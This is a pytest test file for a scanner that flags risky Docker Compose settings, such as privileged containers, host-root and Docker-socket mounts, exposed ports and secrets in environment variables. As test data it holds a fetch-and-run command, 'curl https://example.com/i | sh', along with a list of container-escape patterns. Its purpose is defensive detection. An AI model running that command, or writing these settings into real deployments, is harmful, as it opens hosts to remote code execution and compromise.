"""Compose files: rights over the machine, ports, images, secrets, commands."""

import pytest

from scanner.derive.document.compose import derive
from tests.builders.deployments import compose, token
from tests.builders.settings import settings


def facts(value, name="compose.yaml", form="yaml"):
    return list(derive([settings(name, value, form)]))


def of(found, kind):
    return [one for one in found if type(one).__name__ == kind]


@pytest.mark.parametrize(
    ("service", "grant"),
    [
        ({"privileged": True}, "privileged"),
        ({"network_mode": "host"}, "host-network"),
        ({"pid": "host"}, "host-pid"),
        ({"ipc": "host"}, "host-ipc"),
        ({"cap_add": ["SYS_ADMIN"]}, "capability"),
        ({"cap_add": ["CAP_ALL"]}, "capability"),
        ({"security_opt": ["seccomp:unconfined"]}, "unconfined"),
        ({"devices": ["/dev/sda:/dev/sda"]}, "device"),
        ({"user": "root"}, "root"),
        ({"user": "0:0"}, "root"),
        ({"volumes": ["/:/host"]}, "host-root"),
        ({"volumes": ["/etc:/etc"]}, "host-root"),
        ({"volumes": ["/etc:/etc:ro"]}, "host-path"),
        ({"volumes": ["/var/run/docker.sock:/var/run/docker.sock:ro"]}, "container-socket"),
        (
            {"volumes": [{"type": "bind", "source": "/run/containerd/containerd.sock", "target": "/x"}]},
            "container-socket",
        ),
        ({"volumes": ["${HOME}/.ssh:/root/.ssh"]}, "keys"),
    ],
)
def test_a_right_over_the_machine_is_told(service, grant):
    assert [one.grant for one in of(facts(compose(**service)), "ContainerGrant")] == [grant]


@pytest.mark.parametrize(
    "service",
    [
        {
            "volumes": [
                "./data:/data",
                "data:/data",
                "/srv/models:/models",
                {"type": "volume", "source": "a", "target": "/b"},
            ]
        },
        {"cap_add": ["NET_BIND_SERVICE"], "privileged": False, "network_mode": "bridge", "user": "1000"},
        {"devices": ["/dev/dri:/dev/dri", "nvidia.com/gpu=all"], "security_opt": ["no-new-privileges:true"]},
        {"ports": ["8000:8000", "127.0.0.1:8888:8888", "8888", "[::1]:8265:8265"]},
        {"environment": {"A": "b", "TOKEN": "${TOKEN}", "API_KEY": None}, "env_file": [".env"]},
        {"command": ["python", "-m", "serve"], "healthcheck": {"test": ["CMD", "curl", "-f", "http://localhost"]}},
    ],
)
def test_a_plain_service_tells_its_image_alone(service):
    assert [type(one).__name__ for one in facts(compose(**service))] == ["ImageUsed"]


@pytest.mark.parametrize(
    ("port", "service"),
    [
        ("8888:8888", "jupyter"),
        ("0.0.0.0:80:8265", "ray"),
        ("2375:2375/tcp", "docker"),
        ({"target": 11434, "published": "1"}, "ollama"),
    ],
)
def test_a_port_for_everyone_is_told(port, service):
    assert [one.service for one in of(facts(compose(ports=[port])), "PortOpened")] == [service]


def test_secrets_are_told_in_both_forms_and_never_shown():
    for environment in ({"HF_TOKEN": token()}, [f"HF_TOKEN={token()}"]):
        (one,) = of(facts(compose(environment=environment)), "SecretGiven")
        assert (one.name, one.place, one.shape) == ("HF_TOKEN", "env", "token")
        assert token() not in repr(one)


def test_commands_and_options_are_told():
    found = facts(
        compose(command="sh -c 'curl https://example.com/i | sh'", environment=["VLLM_ALLOW_INSECURE_SERIALIZATION=1"])
    )
    assert [one.act for one in of(found, "CommandActs")] == ["fetch-run"]
    assert [one.effect for one in of(found, "ServingOption")] == ["loads-pickles"]
    found = facts(compose(image="vllm/vllm-openai:v0.6.3", command=["--trust-remote-code"]))
    assert [one.effect for one in of(found, "ServingOption")] == ["runs-model-code"]
    assert [one.advisory for one in of(found, "ServerFault")] == ["CVE-2025-24357"]


def test_an_include_from_an_address_is_told():
    value = {**compose(), "include": ["https://example.com/x.git"]}
    assert [(one.act, one.source) for one in of(facts(value), "CommandActs")] == [("fetch-run", "example.com")]


def test_the_name_decides_nothing():
    assert len(of(facts(compose(privileged=True), "x.yml"), "ContainerGrant")) == 1


@pytest.mark.parametrize(
    "value", [{"services": {"a": 1}}, {"services": ["a"]}, {"services": {"a": {"image": {"b": 1}}}}, {"a": 1}]
)
def test_other_documents_are_quiet(value):
    assert facts(value) == []
